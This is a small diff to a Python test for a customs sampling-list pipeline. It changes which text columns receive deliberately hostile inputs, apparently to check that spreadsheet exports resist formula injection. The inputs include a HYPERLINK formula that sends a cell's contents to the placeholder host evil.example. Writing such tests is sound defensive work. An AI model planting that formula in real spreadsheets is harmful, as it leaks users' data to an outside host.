@@ -13,7 +13,7 @@ from pipelines.lists import SAMPLING_LIST_SCHEMA
 from pipelines.office_list import DISPLAY_COLUMNS
 
 DAY = date(2026, 11, 20)
-RISKS = load_settings().risks
+SETTINGS = load_settings()
 HOSTILE = (
     "=1+1",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -68,5 +68,5 @@ def listed(rows: Iterable[dict[str, Any]]) -> pl.DataFrame:
 def hostile() -> pl.DataFrame:
     """Every hostile text in every column of text."""
     texts = [name for name, dtype in (SAMPLING_LIST_SCHEMA | DISPLAY_COLUMNS).items() if dtype == pl.String]
-    free = set(texts) - {"customs_office", "risk", "selection"}
+    free = set(texts) - {"customs_office", "risk", "selection", "shift", "list_id"}
     return listed(dict.fromkeys(free, text) | {"declaration_id": f"{text}"} for text in HOSTILE)
